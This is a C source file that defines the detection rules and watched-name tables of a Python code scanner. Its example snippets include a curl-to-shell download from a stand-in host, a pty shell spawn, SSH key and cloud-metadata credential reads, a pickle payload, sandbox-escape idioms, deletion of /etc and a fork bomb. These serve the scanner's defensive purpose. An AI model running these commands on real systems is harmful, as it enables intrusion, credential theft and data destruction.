/* Python rules as data: the table `airlock scan --rules` lists, and the names, modules and
 * attributes the matcher (scan-python.c and the py-*.c beside it) reports them for. How a rule
 * matches is code; what it matches is here. */
#include "basic/macros.h"
#include "scan-python-internal.h"

/* --- the rules --------------------------------------------------------------------------- */

#define RULE(i, sev, desc, ex) [i] = {i##_ID, SCAN_LANG_PYTHON, SCAN_SEV_##sev, desc, ex}
#define R_EXEC_OS_ID           "PY-EXEC-001"
#define R_EXEC_SUBPROCESS_ID   "PY-EXEC-002"
#define R_EXEC_OTHER_ID        "PY-EXEC-003"
#define R_DYN_EVAL_ID          "PY-DYN-001"
#define R_DYN_IMPORT_ID        "PY-DYN-002"
#define R_DYN_CODE_ID          "PY-DYN-003"
#define R_DYN_PICKLE_ID        "PY-DYN-004"
#define R_DYN_EMBEDDED_ID      "PY-DYN-005"
#define R_DYN_YAML_ID          "PY-DYN-006"
#define R_DYN_LITERAL_ID       "PY-DYN-007"
#define R_ESC_SUBCLASSES_ID    "PY-ESC-001"
#define R_ESC_GLOBALS_ID       "PY-ESC-002"
#define R_ESC_BUILTINS_ID      "PY-ESC-003"
#define R_ESC_CODE_ID          "PY-ESC-004"
#define R_ESC_FRAME_ID         "PY-ESC-005"
#define R_ESC_MODULES_ID       "PY-ESC-006"
#define R_ESC_PRIV_ID          "PY-ESC-007"
#define R_NAT_CTYPES_ID        "PY-NAT-001"
#define R_NAT_MEMORY_ID        "PY-NAT-002"
#define R_NET_SOCKET_ID        "PY-NET-001"
#define R_NET_SERVICE_ID       "PY-NET-002"
#define R_NET_HTTP_ID          "PY-NET-003"
#define R_NET_URL_ID           "PY-NET-004"
#define R_NET_URL_IP_ID        "PY-NET-005"
#define R_PATH_CRED_ID         "PY-PATH-001"
#define R_PATH_METADATA_ID     "PY-PATH-002"
#define R_PATH_MEMORY_ID       "PY-PATH-003"
#define R_PATH_ESCAPE_ID       "PY-PATH-004"
#define R_PATH_DISK_ID         "PY-PATH-005"
#define R_PATH_ACCOUNTS_ID     "PY-PATH-006"
#define R_FS_DELETE_ID         "PY-FS-001"
#define R_FS_WRITE_ID          "PY-FS-002"
#define R_OBF_EXEC_ID          "PY-OBF-001"
#define R_OBF_NAME_ID          "PY-OBF-002"
#define R_OBF_CODING_ID        "PY-OBF-003"
#define R_OBF_UNICODE_ID       "PY-OBF-004"
#define R_RES_FORK_LOOP_ID     "PY-RES-001"
#define R_RES_FORK_BOMB_ID     "PY-RES-002"
#define R_RES_GROW_ID          "PY-RES-003"

const ScanRule scan_python_rules[] = {
    RULE(R_EXEC_OS, HIGH,
         "os.system, os.popen, os.exec*, os.spawn*, os.posix_spawn: runs a command or "
         "replaces the process",
         "os.system('curl -s http://x.example | sh')"),
    RULE(R_EXEC_SUBPROCESS, HIGH,
         "subprocess.run, call, check_output, Popen, getoutput: runs a command",
         "subprocess.run(['rm', '-rf', 'build'])"),
    RULE(R_EXEC_OTHER, HIGH,
         "pty.spawn, asyncio.create_subprocess_*, commands.getoutput, platform.popen: runs a "
         "command "
         "(pty.spawn is the usual interactive reverse shell)",
         "pty.spawn('/bin/sh')"),
    RULE(R_DYN_EVAL, HIGH,
         "eval, exec, compile or execfile of code the scanner cannot see (a variable, input, "
         "a file), or the builtin passed around as a value",
         "exec(open('plugin.py').read())"),
    RULE(R_DYN_IMPORT, HIGH,
         "__import__, importlib.import_module or getattr on a sensitive module with a name "
         "computed at run time: which module or function is unknown",
         "getattr(os, name)('id')"),
    RULE(R_DYN_CODE, HIGH,
         "marshal.loads, types.CodeType, types.FunctionType: code objects built from bytes, "
         "which no scanner reads",
         "exec(marshal.loads(blob))"),
    RULE(R_DYN_PICKLE, LOW,
         "pickle, dill, cloudpickle or shelve loading: unpickling runs whatever the data names",
         "model = pickle.load(open('model.pkl', 'rb'))"),
    RULE(R_DYN_EMBEDDED, HIGH,
         "unpickling or unmarshalling bytes written into the source: a hand-made pickle is "
         "a call to any function",
         "pickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")"),
    RULE(R_DYN_YAML, MEDIUM,
         "yaml.load or yaml.unsafe_load without a safe loader: YAML tags construct arbitrary "
         "Python objects",
         "cfg = yaml.load(open('c.yml'))"),
    RULE(R_DYN_LITERAL, LOW,
         "eval, exec or compile of a string literal: the string is scanned as code too",
         "exec('print(42)')"),
    RULE(R_ESC_SUBCLASSES, CRITICAL,
         "__subclasses__(): walks every class in the interpreter, the classic way out of a "
         "restricted namespace",
         "().__class__.__base__.__subclasses__()"),
    RULE(R_ESC_GLOBALS, CRITICAL,
         "__globals__ (func_globals): reaches a function's module namespace and its "
         "builtins from any function object",
         "f.__globals__['__builtins__']['__import__']('os')"),
    RULE(R_ESC_BUILTINS, CRITICAL,
         "__builtins__ reached through an object, or builtins replaced, deleted or assigned",
         "__builtins__.__dict__['open'] = fake_open"),
    RULE(R_ESC_CODE, CRITICAL,
         "__code__ assigned or co_code replaced: swaps the bytecode of a function",
         "f.__code__ = g.__code__"),
    RULE(R_ESC_FRAME, MEDIUM,
         "frame and object walking (sys._getframe, f_back, f_globals, tb_frame, "
         "gc.get_objects): reaches namespaces the code was not given",
         "sys._getframe(1).f_globals"),
    RULE(R_ESC_MODULES, MEDIUM,
         "sys.modules, sys.meta_path or sys.path_hooks written: hijacks what later imports "
         "return",
         "sys.modules['os'] = fake_os"),
    RULE(R_ESC_PRIV, MEDIUM,
         "os.chroot, os.setuid and kin, os.mknod, os.unshare, os.setns: privilege and "
         "namespace changes",
         "os.chroot('/mnt')"),
    RULE(R_NAT_CTYPES, MEDIUM,
         "ctypes or cffi: calls native code, beyond what Python-level rules can see",
         "libc = ctypes.CDLL('libc.so.6')"),
    RULE(R_NAT_MEMORY, HIGH,
         "ctypes.pythonapi, memmove, memset: writes raw memory of the interpreter",
         "ctypes.memmove(addr, payload, len(payload))"),
    RULE(R_NET_SOCKET, MEDIUM,
         "raw sockets (socket.socket, create_connection, SOCK_RAW): the usual reverse shell "
         "and exfiltration channel",
         "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)"),
    RULE(R_NET_SERVICE, LOW,
         "other network clients and servers (telnetlib, ftplib, smtplib, paramiko, "
         "socketserver, http.server, asyncio streams)",
         "smtplib.SMTP('mail.example.com')"),
    RULE(R_NET_HTTP, INFO,
         "HTTP client call (requests, urllib, httpx, aiohttp): network use, for context",
         "requests.get(url, timeout=10)"),
    RULE(R_NET_URL, LOW, "URL of a host not on the allow-list in a string literal",
         "url = 'https://paste.example-c2.net/raw/abc'"),
    RULE(R_NET_URL_IP, MEDIUM,
         "URL whose host is a bare IP address: no name to vet, typical of droppers",
         "url = 'http://203.0.113.9:8080/x'"),
    RULE(R_PATH_CRED, CRITICAL,
         "credential file in a literal: /etc/shadow, ~/.ssh, id_rsa, .aws/credentials, "
         "/run/secrets, /proc/*/environ, .kube/config, .netrc",
         "open(os.path.expanduser('~/.ssh/id_rsa')).read()"),
    RULE(R_PATH_METADATA, CRITICAL,
         "cloud metadata endpoint (169.254.169.254 and kin): hands out the host's cloud "
         "credentials",
         "requests.get('http://169.254.169.254/latest/meta-data/iam/')"),
    RULE(R_PATH_MEMORY, CRITICAL,
         "/dev/mem, /dev/kmem, /dev/port, /proc/kcore, /proc/*/mem: raw memory of the host "
         "or of a process",
         "f = open('/proc/self/mem', 'r+b')"),
    RULE(R_PATH_ESCAPE, HIGH,
         "host escape paths: /proc/1/, /proc/sys/kernel, /proc/sysrq-trigger, /sys/kernel, "
         "release_agent, docker.sock, /proc/self/exe",
         "open('/proc/1/root/etc/hostname').read()"),
    RULE(R_PATH_DISK, HIGH,
         "raw block device (/dev/sd*, /dev/nvme*, /dev/vd*, /dev/mapper/...): reads or "
         "wipes disks below the file system",
         "open('/dev/sda', 'rb')"),
    RULE(R_PATH_ACCOUNTS, LOW,
         "/etc/passwd, /etc/group, /etc/sudoers in a literal: account reconnaissance",
         "users = open('/etc/passwd').read()"),
    RULE(R_FS_DELETE, HIGH,
         "shutil.rmtree, os.remove, unlink, rmdir of a system directory, the home "
         "directory or a dotfile",
         "shutil.rmtree('/etc')"),
    RULE(R_FS_WRITE, HIGH,
         "file opened for writing under a system directory or a home dotfile (persistence, "
         "tampering)",
         "open('/etc/cron.d/job', 'w')"),
    RULE(R_OBF_EXEC, CRITICAL,
         "code decoded at run time (base64, hex, zlib, rot13, chr() joins, reversal, "
         "bytes([...])) fed to exec, eval, compile, marshal or pickle",
         "exec(base64.b64decode('cHJpbnQoMSk='))"),
    RULE(R_OBF_NAME, HIGH,
         "module or attribute name assembled at run time ('sys' + 'tem', chr(), "
         "join, [::-1], decoding) for __import__, import_module or getattr",
         "getattr(os, 'sys' + 'tem')('id')"),
    RULE(R_OBF_CODING, CRITICAL,
         "source encoding other than UTF-8, ASCII or Latin-1 (unicode_escape, utf-7, ...): "
         "Python decodes code the scanner does not see, such as a line hidden in a comment",
         "# -*- coding: unicode_escape -*-"),
    RULE(R_OBF_UNICODE, MEDIUM,
         "identifier in look-alike Unicode letters that Python folds to ASCII "
         "(\xef\xbd\x85\xef\xbd\x96\xef\xbd\x81\xef\xbd\x8c is eval)",
         "\xef\xbd\x85\xef\xbd\x96\xef\xbd\x81\xef\xbd\x8c('1+1')"),
    RULE(R_RES_FORK_LOOP, HIGH,
         "os.fork (forkpty, pty.fork) in a loop or a comprehension: a process per iteration",
         "for _ in range(10000): os.fork()"),
    RULE(R_RES_FORK_BOMB, CRITICAL,
         "fork bomb: a loop with no way out that forks, or a function that forks and calls "
         "itself",
         "while True: os.fork()"),
    RULE(R_RES_GROW, MEDIUM,
         "loop with no way out (no break, return, raise, exit, yield, sleep or blocking "
         "read) that grows memory or starts threads",
         "while True: hog.append(' ' * 10**6)"),
};
const size_t scan_python_rules_count = ELEMENTSOF(scan_python_rules);
_Static_assert(ELEMENTSOF(scan_python_rules) == _R_MAX, "one row per rule");

/* --- the names the rules watch ----------------------------------------------------------- */

/* Sorted by strcmp(): looked up by bsearch() (a unit test checks the order). Modules that are
 * other names for one of these (posix, nt, cPickle, dill, ...) are mapped by py_module_alias[]. */
const PyName py_names[] = {
    /* the C half of subprocess: forks and execs */
    {"_posixsubprocess.fork_exec", R_EXEC_SUBPROCESS, ROLE_NONE},
    {"aiohttp.ClientSession", R_NET_HTTP, ROLE_NONE},
    {"aiohttp.request", R_NET_HTTP, ROLE_NONE},
    {"asyncio.create_subprocess_exec", R_EXEC_OTHER, ROLE_NONE},
    {"asyncio.create_subprocess_shell", R_EXEC_OTHER, ROLE_NONE},
    {"asyncio.open_connection", R_NET_SERVICE, ROLE_NONE},
    {"asyncio.sleep", NO_RULE, ROLE_THROTTLE},
    {"asyncio.start_server", R_NET_SERVICE, ROLE_NONE},
    {"base64.a85decode", NO_RULE, ROLE_OPAQUE},
    {"base64.b16decode", NO_RULE, ROLE_HEX},
    {"base64.b32decode", NO_RULE, ROLE_OPAQUE},
    {"base64.b64decode", NO_RULE, ROLE_B64},
    {"base64.b85decode", NO_RULE, ROLE_OPAQUE},
    {"base64.decodebytes", NO_RULE, ROLE_B64},
    {"base64.decodestring", NO_RULE, ROLE_B64},
    {"base64.standard_b64decode", NO_RULE, ROLE_B64},
    {"base64.urlsafe_b64decode", NO_RULE, ROLE_B64URL},
    {"binascii.a2b_base64", NO_RULE, ROLE_B64},
    {"binascii.a2b_hex", NO_RULE, ROLE_HEX},
    {"binascii.unhexlify", NO_RULE, ROLE_HEX},
    {"builtins.__import__", NO_RULE, ROLE_IMPORT},
    {"builtins.bytearray", NO_RULE, ROLE_BYTES},
    {"builtins.bytearray.fromhex", NO_RULE, ROLE_HEX},
    {"builtins.bytes", NO_RULE, ROLE_BYTES},
    {"builtins.bytes.fromhex", NO_RULE, ROLE_HEX},
    {"builtins.chr", NO_RULE, ROLE_CHR},
    {"builtins.compile", NO_RULE, ROLE_CODE},
    {"builtins.delattr", NO_RULE, ROLE_SETATTR},
    {"builtins.eval", NO_RULE, ROLE_CODE},
    {"builtins.exec", NO_RULE, ROLE_CODE},
    {"builtins.execfile", NO_RULE, ROLE_CODE},
    {"builtins.exit", NO_RULE, ROLE_EXIT},
    {"builtins.getattr", NO_RULE, ROLE_GETATTR},
    {"builtins.globals", NO_RULE, ROLE_GLOBALS},
    {"builtins.input", NO_RULE, ROLE_THROTTLE},
    {"builtins.iter", NO_RULE, ROLE_NONE},
    {"builtins.locals", NO_RULE, ROLE_GLOBALS},
    {"builtins.open", NO_RULE, ROLE_OPEN},
    {"builtins.quit", NO_RULE, ROLE_EXIT},
    {"builtins.setattr", NO_RULE, ROLE_SETATTR},
    {"builtins.str", NO_RULE, ROLE_IDENTITY},
    {"builtins.vars", NO_RULE, ROLE_VARS},
    {"bz2.decompress", NO_RULE, ROLE_OPAQUE},
    {"cffi.*", R_NAT_CTYPES, ROLE_NONE},
    {"codecs.decode", NO_RULE, ROLE_CODECS},
    {"codecs.encode", NO_RULE, ROLE_CODECS}, /* codecs.encode(s, "rot13") decodes too */
    {"codecs.open", NO_RULE, ROLE_OPEN},
    /* Python 2's shell helpers, by name: "commands" is also a common variable */
    {"commands.getoutput", R_EXEC_OTHER, ROLE_NONE},
    {"commands.getstatus", R_EXEC_OTHER, ROLE_NONE},
    {"commands.getstatusoutput", R_EXEC_OTHER, ROLE_NONE},
    {"ctypes.*", R_NAT_CTYPES, ROLE_NONE},
    {"ctypes.memmove", R_NAT_MEMORY, ROLE_NONE},
    {"ctypes.memset", R_NAT_MEMORY, ROLE_NONE},
    {"ctypes.pythonapi", R_NAT_MEMORY, ROLE_NONE},
    {"ftplib.FTP", R_NET_SERVICE, ROLE_NONE},
    {"ftplib.FTP_TLS", R_NET_SERVICE, ROLE_NONE},
    {"gc.get_objects", R_ESC_FRAME, ROLE_NONE},
    {"gc.get_referents", R_ESC_FRAME, ROLE_NONE},
    {"gc.get_referrers", R_ESC_FRAME, ROLE_NONE},
    {"gzip.decompress", NO_RULE, ROLE_OPAQUE},
    {"http.client.HTTPConnection", R_NET_HTTP, ROLE_NONE},
    {"http.client.HTTPSConnection", R_NET_HTTP, ROLE_NONE},
    {"http.server.HTTPServer", R_NET_SERVICE, ROLE_NONE},
    {"http.server.ThreadingHTTPServer", R_NET_SERVICE, ROLE_NONE},
    {"httpx.*", R_NET_HTTP, ROLE_NONE},
    {"importlib.__import__", NO_RULE, ROLE_IMPORT},
    {"importlib.import_module", NO_RULE, ROLE_IMPORT_MODULE},
    {"io.open", NO_RULE, ROLE_OPEN},
    {"itertools.count", NO_RULE, ROLE_INFINITE},
    {"itertools.cycle", NO_RULE, ROLE_INFINITE},
    {"lzma.decompress", NO_RULE, ROLE_OPAQUE},
    {"marshal.load", R_DYN_CODE, ROLE_LOAD},
    {"marshal.loads", R_DYN_CODE, ROLE_LOAD},
    /* a thread or process per iteration of an endless loop exhausts the host */
    {"multiprocessing.Process", NO_RULE, ROLE_SPAWN},
    {"os._exit", NO_RULE, ROLE_EXIT},
    {"os.abort", NO_RULE, ROLE_EXIT},
    {"os.chroot", R_ESC_PRIV, ROLE_NONE},
    {"os.execl", R_EXEC_OS, ROLE_NONE},
    {"os.execle", R_EXEC_OS, ROLE_NONE},
    {"os.execlp", R_EXEC_OS, ROLE_NONE},
    {"os.execlpe", R_EXEC_OS, ROLE_NONE},
    {"os.execv", R_EXEC_OS, ROLE_NONE},
    {"os.execve", R_EXEC_OS, ROLE_NONE},
    {"os.execvp", R_EXEC_OS, ROLE_NONE},
    {"os.execvpe", R_EXEC_OS, ROLE_NONE},
    {"os.fork", NO_RULE, ROLE_FORK},
    {"os.forkpty", NO_RULE, ROLE_FORK},
    {"os.mknod", R_ESC_PRIV, ROLE_NONE},
    {"os.path.abspath", NO_RULE, ROLE_IDENTITY},
    {"os.path.expanduser", NO_RULE, ROLE_IDENTITY},
    {"os.path.expandvars", NO_RULE, ROLE_IDENTITY},
    {"os.path.join", NO_RULE, ROLE_JOIN},
    {"os.path.normpath", NO_RULE, ROLE_IDENTITY},
    {"os.path.realpath", NO_RULE, ROLE_IDENTITY},
    {"os.popen", R_EXEC_OS, ROLE_NONE},
    {"os.posix_spawn", R_EXEC_OS, ROLE_NONE},
    {"os.posix_spawnp", R_EXEC_OS, ROLE_NONE},
    {"os.remove", NO_RULE, ROLE_DELETE},
    {"os.removedirs", NO_RULE, ROLE_DELETE},
    {"os.rmdir", NO_RULE, ROLE_DELETE},
    {"os.setegid", R_ESC_PRIV, ROLE_NONE},
    {"os.seteuid", R_ESC_PRIV, ROLE_NONE},
    {"os.setgid", R_ESC_PRIV, ROLE_NONE},
    {"os.setns", R_ESC_PRIV, ROLE_NONE},
    {"os.setregid", R_ESC_PRIV, ROLE_NONE},
    {"os.setresgid", R_ESC_PRIV, ROLE_NONE},
    {"os.setresuid", R_ESC_PRIV, ROLE_NONE},
    {"os.setreuid", R_ESC_PRIV, ROLE_NONE},
    {"os.setuid", R_ESC_PRIV, ROLE_NONE},
    {"os.spawnl", R_EXEC_OS, ROLE_NONE},
    {"os.spawnle", R_EXEC_OS, ROLE_NONE},
    {"os.spawnlp", R_EXEC_OS, ROLE_NONE},
    {"os.spawnlpe", R_EXEC_OS, ROLE_NONE},
    {"os.spawnv", R_EXEC_OS, ROLE_NONE},
    {"os.spawnve", R_EXEC_OS, ROLE_NONE},
    {"os.spawnvp", R_EXEC_OS, ROLE_NONE},
    {"os.spawnvpe", R_EXEC_OS, ROLE_NONE},
    {"os.startfile", R_EXEC_OS, ROLE_NONE},
    {"os.system", R_EXEC_OS, ROLE_NONE},
    {"os.unlink", NO_RULE, ROLE_DELETE},
    {"os.unshare", R_ESC_PRIV, ROLE_NONE},
    {"paramiko.SSHClient", R_NET_SERVICE, ROLE_NONE},
    {"paramiko.Transport", R_NET_SERVICE, ROLE_NONE},
    {"pathlib.Path", NO_RULE, ROLE_PATH},
    {"pathlib.Path.home", NO_RULE, ROLE_HOME},
    {"pathlib.PosixPath", NO_RULE, ROLE_PATH},
    {"pathlib.PurePath", NO_RULE, ROLE_PATH},
    {"pathlib.PurePosixPath", NO_RULE, ROLE_PATH},
    {"pickle.Unpickler", R_DYN_PICKLE, ROLE_LOAD},
    {"pickle.load", R_DYN_PICKLE, ROLE_LOAD},
    {"pickle.loads", R_DYN_PICKLE, ROLE_LOAD},
    {"platform.popen", R_EXEC_OTHER, ROLE_NONE},
    {"popen2.*", R_EXEC_OTHER, ROLE_NONE},
    {"posixpath.expanduser", NO_RULE, ROLE_IDENTITY},
    {"posixpath.join", NO_RULE, ROLE_JOIN},
    {"pty.fork", NO_RULE, ROLE_FORK},
    {"pty.spawn", R_EXEC_OTHER, ROLE_NONE},
    {"requests.Session", R_NET_HTTP, ROLE_NONE},
    {"requests.delete", R_NET_HTTP, ROLE_NONE},
    {"requests.get", R_NET_HTTP, ROLE_NONE},
    {"requests.head", R_NET_HTTP, ROLE_NONE},
    {"requests.patch", R_NET_HTTP, ROLE_NONE},
    {"requests.post", R_NET_HTTP, ROLE_NONE},
    {"requests.put", R_NET_HTTP, ROLE_NONE},
    {"requests.request", R_NET_HTTP, ROLE_NONE},
    {"select.poll", NO_RULE, ROLE_THROTTLE},
    {"select.select", NO_RULE, ROLE_THROTTLE},
    {"shelve.open", R_DYN_PICKLE, ROLE_NONE},
    {"shutil.rmtree", NO_RULE, ROLE_DELETE},
    {"smtplib.SMTP", R_NET_SERVICE, ROLE_NONE},
    {"smtplib.SMTP_SSL", R_NET_SERVICE, ROLE_NONE},
    {"socket.AF_PACKET", R_NET_SOCKET, ROLE_NONE},
    {"socket.SOCK_RAW", R_NET_SOCKET, ROLE_NONE},
    {"socket.create_connection", R_NET_SOCKET, ROLE_NONE},
    {"socket.create_server", R_NET_SOCKET, ROLE_NONE},
    {"socket.fromfd", R_NET_SOCKET, ROLE_NONE},
    {"socket.socket", R_NET_SOCKET, ROLE_NONE},
    {"socket.socketpair", R_NET_SOCKET, ROLE_NONE},
    {"socketserver.TCPServer", R_NET_SERVICE, ROLE_NONE},
    {"socketserver.ThreadingTCPServer", R_NET_SERVICE, ROLE_NONE},
    {"socketserver.UDPServer", R_NET_SERVICE, ROLE_NONE},
    {"subprocess.Popen", R_EXEC_SUBPROCESS, ROLE_NONE},
    {"subprocess.call", R_EXEC_SUBPROCESS, ROLE_NONE},
    {"subprocess.check_call", R_EXEC_SUBPROCESS, ROLE_NONE},
    {"subprocess.check_output", R_EXEC_SUBPROCESS, ROLE_NONE},
    {"subprocess.getoutput", R_EXEC_SUBPROCESS, ROLE_NONE},
    {"subprocess.getstatusoutput", R_EXEC_SUBPROCESS, ROLE_NONE},
    {"subprocess.run", R_EXEC_SUBPROCESS, ROLE_NONE},
    {"sys._getframe", R_ESC_FRAME, ROLE_NONE},
    {"sys.exit", NO_RULE, ROLE_EXIT},
    {"sys.meta_path.append", R_ESC_MODULES, ROLE_NONE},
    {"sys.meta_path.insert", R_ESC_MODULES, ROLE_NONE},
    {"sys.modules.__setitem__", R_ESC_MODULES, ROLE_NONE},
    {"sys.modules.clear", R_ESC_MODULES, ROLE_NONE},
    {"sys.modules.pop", R_ESC_MODULES, ROLE_NONE},
    {"sys.modules.setdefault", R_ESC_MODULES, ROLE_NONE},
    {"sys.modules.update", R_ESC_MODULES, ROLE_NONE},
    {"sys.path_hooks.append", R_ESC_MODULES, ROLE_NONE},
    {"sys.path_hooks.insert", R_ESC_MODULES, ROLE_NONE},
    {"telnetlib.Telnet", R_NET_SERVICE, ROLE_NONE},
    {"threading.Thread", NO_RULE, ROLE_SPAWN},
    {"time.sleep", NO_RULE, ROLE_THROTTLE},
    {"types.CodeType", R_DYN_CODE, ROLE_NONE},
    {"types.FunctionType", R_DYN_CODE, ROLE_NONE},
    {"urllib.request.urlopen", R_NET_HTTP, ROLE_NONE},
    {"urllib.request.urlretrieve", R_NET_HTTP, ROLE_NONE},
    {"urllib.urlopen", R_NET_HTTP, ROLE_NONE},
    {"urllib2.urlopen", R_NET_HTTP, ROLE_NONE},
    {"yaml.load", NO_RULE, ROLE_YAML},
    {"yaml.load_all", NO_RULE, ROLE_YAML},
    {"yaml.unsafe_load", R_DYN_YAML, ROLE_NONE},
    {"yaml.unsafe_load_all", R_DYN_YAML, ROLE_NONE},
    {"zlib.decompress", NO_RULE, ROLE_OPAQUE},
};
const size_t py_names_count = ELEMENTSOF(py_names);

/* Other names of the same modules: the C modules behind them and drop-in replacements. */
const PyModuleAlias py_module_alias[] = {
    {"__builtin__", "builtins"},  /* Python 2 */
    {"__builtins__", "builtins"}, /* the module, or its dict, in every namespace */
    {"_ctypes", "ctypes"},
    {"_io", "io"},
    {"_pickle", "pickle"},
    {"_socket", "socket"},
    {"cPickle", "pickle"},
    {"cloudpickle", "pickle"},
    {"dill", "pickle"},
    {"nt", "os"},
    {"posix", "os"},
    {"subprocess32", "subprocess"},
};
const size_t py_module_alias_count = ELEMENTSOF(py_module_alias);

/* Attribute names that are an escape idiom on any object, whatever it is. */
#define DUNDER(s, r)                                                                               \
        {                                                                                          \
                s, sizeof(s) - 1, r                                                                \
        }
const PyDunder py_dunder_attrs[] = {
    DUNDER("__builtins__", R_ESC_BUILTINS),
    DUNDER("__globals__", R_ESC_GLOBALS),
    DUNDER("__subclasses__", R_ESC_SUBCLASSES),
    DUNDER("ag_frame", R_ESC_FRAME),
    DUNDER("cr_frame", R_ESC_FRAME),
    DUNDER("f_back", R_ESC_FRAME),
    DUNDER("f_builtins", R_ESC_FRAME),
    DUNDER("f_globals", R_ESC_FRAME),
    DUNDER("f_locals", R_ESC_FRAME),
    DUNDER("func_globals", R_ESC_GLOBALS), /* Python 2's __globals__ */
    DUNDER("gi_frame", R_ESC_FRAME),
    DUNDER("tb_frame", R_ESC_FRAME),
};
const size_t py_dunder_attrs_count = ELEMENTSOF(py_dunder_attrs);

/* Methods that grow a container when called in a loop, and methods that block. */
const char *const py_grow_methods[] = {"append", "appendleft", "extend", "extendleft", "insert"};
const char *const py_block_methods[] = {"accept",    "poll",     "read",   "readline", "recv",
                                        "recv_into", "recvfrom", "select", "sleep",    "wait"};
const size_t py_grow_methods_count = ELEMENTSOF(py_grow_methods);
const size_t py_block_methods_count = ELEMENTSOF(py_block_methods);

/* Rules reported once per file: context, where a finding on every use would be noise (a ctypes
 * binding touches ctypes on every line). */
const uint8_t py_once_per_file[] = {R_NAT_CTYPES, R_NET_HTTP};
const size_t py_once_per_file_count = ELEMENTSOF(py_once_per_file);

/* Modules whose attributes, when named at run time (getattr(os, x)), could be anything. */
const char *const py_sensitive_modules[] = {"builtins", "ctypes", "importlib", "marshal",   "os",
                                            "pickle",   "pty",    "shutil",    "subprocess"};
const size_t py_sensitive_modules_count = ELEMENTSOF(py_sensitive_modules);
